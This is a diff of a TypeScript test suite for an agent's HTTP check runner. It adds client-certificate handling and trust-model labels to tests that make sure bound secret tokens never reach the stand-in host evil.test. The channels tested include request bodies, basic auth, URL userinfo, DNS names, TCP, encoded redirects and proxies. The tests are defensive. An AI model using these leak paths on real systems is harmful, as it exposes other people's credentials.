@@ -3,6 +3,7 @@ import { httpRunner } from '../../../src/agent/run/check-types/http.ts';
 import type { RunnerParts } from '../../../src/agent/run/runner.ts';
 import type { SecretsVault } from '../../../src/agent/secrets/vault.ts';
 import type { Check } from '../../../src/model/check.ts';
+import type { ClientCertificate } from '../../../src/model/client-certificate.ts';
 import type { CheckResult } from '../../../src/model/result.ts';
 import { systemClock } from '../../../src/runtime/clock.ts';
 import { type CheckFields, checkOf } from '../../support/checks.ts';
@@ -24,6 +25,7 @@ const api = (request: object, fields: CheckFields = {}): Check =>
 interface Setting {
   readonly value?: string;
   readonly proxyUrl?: string;
+  readonly clientCertificates?: readonly ClientCertificate[];
   /** Gets the names that are looked up. */
   readonly looked?: string[];
 }
@@ -32,7 +34,7 @@ interface Setting {
 async function run(
   check: Check,
   targets: readonly string[],
-  { value = SECRET, proxyUrl, looked = [] }: Setting = {},
+  { value = SECRET, proxyUrl, clientCertificates = [], looked = [] }: Setting = {},
 ): Promise<CheckResult> {
   const secrets: SecretsVault = await operatorVault({ TOKEN: value }, targets);
   const resolver: RunnerParts['resolver'] = {
@@ -43,7 +45,7 @@ async function run(
   };
   const harness = runHarness({ clock: systemClock, parts: { secrets, resolver } });
   const http = httpRunner<'API'>({
-    clientCertificates: () => [],
+    clientCertificates: () => clientCertificates,
     proxyUrl: () => proxyUrl ?? null,
   });
   const parts: Partial<RunnerParts> = {
@@ -85,7 +87,7 @@ describe('a variable of the agent that is bound to targets', () => {
     ['body', (url) => ({ url, method: 'POST', bodyType: 'RAW', body: '<{{TOKEN}}>' })],
     ['password', (url) => ({ url, basicAuth: { username: 'ann', password: '{{TOKEN}}' } })],
     ['userinfo', (url) => ({ url: url.replace('//', '//ann:{{TOKEN}}@') })],
-  ])('is sent to no other target in the %s', async (_place, requestTo) => {
+  ])('is sent to no other target in the %s (trust model SN4)', async (_place, requestTo) => {
     const server = await ok();
     const result = await run(api(requestTo(`http://evil.test:${server.port}`)), [
       'TOKEN@shop.test',
@@ -99,7 +101,7 @@ describe('a variable of the agent that is bound to targets', () => {
     expect(server.requests).toEqual([]);
   });
 
-  it('is sent to no other target over TCP', async () => {
+  it('is sent to no other target over TCP (trust model SN4)', async () => {
     const server = await listenTcp((socket) => socket.end());
     onTestFinished(() => server.close());
     const request = { hostname: '127.0.0.1', port: server.port, data: 'AUTH {{TOKEN}}' };
@@ -117,7 +119,7 @@ describe('a variable of the agent that is bound to targets', () => {
     expect(await run(check, ['TOKEN@shop.test'])).toMatchObject({ hasFailures: true });
   });
 
-  it('is in no name of a host that is looked up, and in no message about it', async () => {
+  it('is in no name of a host that is looked up, and in no message about it (trust model SN4)', async () => {
     const looked: string[] = [];
     const check = api({ url: 'http://{{{TOKEN}}}.evil.test:81/' });
     const result = await run(check, ['TOKEN@shop.test'], { value: 'Pl4nted-s3cret', looked });
@@ -172,10 +174,11 @@ describe('a variable of the agent that is bound to targets', () => {
     expect(server.requests[0]).toContain('x-plain: its own');
   });
 
-  it('that has no targets goes wherever a check sends it', async () => {
+  it('that has no targets goes wherever a check sends it (trust model SC2)', async () => {
     const server = await ok();
     const check = api({ url: `http://evil.test:${server.port}/`, headers: [header] });
     expect((await run(check, [])).hasFailures).toBe(false);
+    expect(server.requests[0]).toContain(`x-plain: ${SECRET}`);
   });
 });
 
@@ -201,15 +204,18 @@ describe('a redirect of a request with a bound variable', () => {
       '307 Temporary Redirect',
       (url) => ({ url, method: 'POST', bodyType: 'RAW', body: 'a {{TOKEN}}' }),
     ],
-  ])('is not followed to another host with the value in %s', async (_place, status, requestTo) => {
-    const { shop, evil } = await redirecting((origin) => `${origin}/next`, status);
-    const { code, message } = errorOf(await run(api(requestTo(`${shop}/`)), ['TOKEN@shop.test']));
-    expect(code).toBe('VARIABLE_DENIED');
-    expect(message).toMatch(
-      /the redirect to evil\.test:\d+ is not followed: it would carry the variable TOKEN, which VARIABLE_TARGETS of the agent allows for other targets only/,
-    );
-    expect(evil.requests).toEqual([]);
-  });
+  ])(
+    'is not followed to another host with the value in %s (trust model SN5)',
+    async (_place, status, requestTo) => {
+      const { shop, evil } = await redirecting((origin) => `${origin}/next`, status);
+      const { code, message } = errorOf(await run(api(requestTo(`${shop}/`)), ['TOKEN@shop.test']));
+      expect(code).toBe('VARIABLE_DENIED');
+      expect(message).toMatch(
+        /the redirect to evil\.test:\d+ is not followed: it would carry the variable TOKEN, which VARIABLE_TARGETS of the agent allows for other targets only/,
+      );
+      expect(evil.requests).toEqual([]);
+    },
+  );
 
   it.each<[string, (origin: string, value: string) => string]>([
     ['as it came', (origin, value) => `${origin}/${value}`],
@@ -217,12 +223,15 @@ describe('a redirect of a request with a bound variable', () => {
     ['in base64', (origin, value) => `${origin}/?t=${base64(value)}`],
     ['in hex', (origin, value) => `${origin}/${Buffer.from(value).toString('hex')}`],
     ['in part', (origin, value) => `${origin}/${decodeURIComponent(value).slice(3, 12)}`],
-  ])('is not followed to another host whose address has the value %s', async (_form, to) => {
-    const { shop, evil } = await redirecting((origin, target) => to(origin, target.slice(2)));
-    const check = api({ url: `${shop}/?{{TOKEN}}` });
-    expect(errorOf(await run(check, ['TOKEN@shop.test'])).code).toBe('VARIABLE_DENIED');
-    expect(evil.requests).toEqual([]);
-  });
+  ])(
+    'is not followed to another host whose address has the value %s (trust model SN5)',
+    async (_form, to) => {
+      const { shop, evil } = await redirecting((origin, target) => to(origin, target.slice(2)));
+      const check = api({ url: `${shop}/?{{TOKEN}}` });
+      expect(errorOf(await run(check, ['TOKEN@shop.test'])).code).toBe('VARIABLE_DENIED');
+      expect(evil.requests).toEqual([]);
+    },
+  );
 
   it('is not followed to the same host at another port, if the variable is bound to one', async () => {
     const { shop, evil } = await redirecting((origin) => origin.replace('evil', 'shop'));
@@ -257,7 +266,7 @@ describe('a redirect of a request with a bound variable', () => {
 });
 
 describe("a location's proxy and a bound variable", () => {
-  it('gets none in an unencrypted request unless it is a target itself', async () => {
+  it('gets none in an unencrypted request unless it is a target itself (trust model SN5)', async () => {
     const server = await ok();
     const proxy = await httpProxy();
     const check = api({ url: `http://shop.test:${server.port}/`, headers: [header] });
@@ -270,7 +279,7 @@ describe("a location's proxy and a bound variable", () => {
     expect((await run(check, targets, setting)).hasFailures).toBe(false);
   });
 
-  it('only tunnels a request to a host whose certificate is verified', async () => {
+  it('only tunnels a request to a host whose certificate is verified (trust model SN5)', async () => {
     const proxy = await httpProxy();
     const codeWith = async (skipSSL: boolean) => {
       const request = { url: 'https://shop.test:1/', headers: [header], skipSSL };
@@ -281,6 +290,22 @@ describe("a location's proxy and a bound variable", () => {
     expect(proxy.requests).toEqual([]);
     expect(await codeWith(false)).not.toBe('VARIABLE_DENIED');
     expect(proxy.requests).toMatchObject([{ method: 'CONNECT', target: 'shop.test:1' }]);
+  });
+
+  it('gets none for a host whose certificate an authority of the service may have issued (trust model SN5)', async () => {
+    const proxy = await httpProxy();
+    const codeWith = async (host: string, authority: string | null) => {
+      const check = api({ url: 'https://shop.test:1/', headers: [header] });
+      const pair = { cert: 'PEM', key: 'PEM', passphrase: null };
+      const clientCertificates = [{ ...pair, host, ca: authority }];
+      const setting = { proxyUrl: proxy.url(), clientCertificates };
+      return errorOf(await run(check, ['TOKEN@shop.test'], setting)).code;
+    };
+    // Who has the authority's key and the proxy could read what goes through it.
+    expect(await codeWith('shop.test', 'PEM')).toBe('VARIABLE_DENIED');
+    expect(await codeWith('*.test', 'PEM')).toBe('VARIABLE_DENIED');
+    expect(await codeWith('shop.test', null)).not.toBe('VARIABLE_DENIED');
+    expect(await codeWith('other.test', 'PEM')).not.toBe('VARIABLE_DENIED');
   });
 });
 
